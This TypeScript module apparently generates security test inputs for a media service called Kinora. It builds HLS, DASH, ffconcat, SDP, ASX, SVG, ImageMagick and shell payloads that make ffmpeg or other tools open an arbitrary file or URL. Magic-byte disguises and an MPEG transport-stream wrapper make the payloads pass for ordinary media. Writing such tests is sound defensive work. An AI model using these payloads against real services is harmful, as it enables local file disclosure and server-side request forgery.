const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');

export const writePlaylist = (reference: string): string =>
  `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-KEY:METHOD=AES-128,URI="${reference}"\n#EXT-X-MAP:URI="${reference}"\n#EXTINF:1,\n${reference}\n#EXT-X-ENDLIST\n`;

/** Texts that tell ffmpeg, or another program, to open something. */
export const SCRIPTS: Record<string, (reference: string) => string> = {
  'an HLS playlist': writePlaylist,
  'a DASH manifest': (reference) =>
    `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${escaped(reference)}</BaseURL></Representation></AdaptationSet></Period></MPD>`,
  'a concat script': (reference) => `ffconcat version 1.0\nfile '${reference}'\nduration 1\n`,
  'a session description': (reference) =>
    `v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=${reference}\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\na=control:${reference}\r\nm=video 9 RTP/AVP 96\r\n`,
  'a Windows media playlist': (reference) =>
    `<asx version="3.0"><entry><ref href="${escaped(reference)}"/></entry></asx>`,
  'an SVG with a script': (reference) =>
    `<svg xmlns="http://www.w3.org/2000/svg"><image href="${escaped(reference)}"/><script href="${escaped(reference)}"/></svg>`,
  'a page': (reference) => `<!doctype html><video src="${escaped(reference)}"></video>`,
  'an ImageMagick script': (reference) =>
    `push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 '${reference}'\npop graphic-context\n`,
  'a shell script': (reference) => `#!/bin/sh\ncat '${reference}' || curl '${reference}'\n`,
  'a list of names': (reference) => `${reference}\n`,
};

/** The first bytes of each container that Kinora reads: what follows them passes for one. */
export const DISGUISES: Record<string, Buffer> = {
  MP4: Buffer.from('\0\0\0\x14ftypisom\0\0\x02\0isom', 'latin1'),
  QuickTime: Buffer.from('\0\0\0\x08wide', 'latin1'),
  Matroska: Buffer.from('1a45dfa38b4282886d6174726f736b611853806701ffffffffffffff', 'hex'),
  AVI: Buffer.from('RIFF\xff\xff\0\0AVI LIST', 'latin1'),
  FLV: Buffer.from('464c5601050000000900000000', 'hex'),
  'an MPEG program stream': Buffer.from('000001ba4400040004010189c3f8', 'hex'),
  ASF: Buffer.from('3026b2758e66cf11a6d900aa0062ce6c', 'hex'),
  Ogg: Buffer.from('OggS\0\x02\0\0\0\0\0\0\0\0', 'latin1'),
  MP3: Buffer.from('49443303000000000000fffb9064', 'hex'),
  FLAC: Buffer.from('664c6143000000221000', 'hex'),
  WAV: Buffer.from('RIFF\xff\xff\0\0WAVEfmt ', 'latin1'),
};

const BYTES_BETWEEN_SYNC = 187;
const MIN_PACKETS = 40;

/** A text that is a transport stream as well: sync bytes stand where they are due, and the text lies between them. */
export function inTransportStream(text: string): Buffer {
  const packets = Math.max(MIN_PACKETS, Math.ceil(text.length / BYTES_BETWEEN_SYNC));
  const pieces = Array.from({ length: packets }, (_, nth) =>
    text.slice(nth * BYTES_BETWEEN_SYNC, (nth + 1) * BYTES_BETWEEN_SYNC).padEnd(BYTES_BETWEEN_SYNC, '\0'),
  );
  return Buffer.from(`${pieces.join('G')}G`, 'latin1');
}
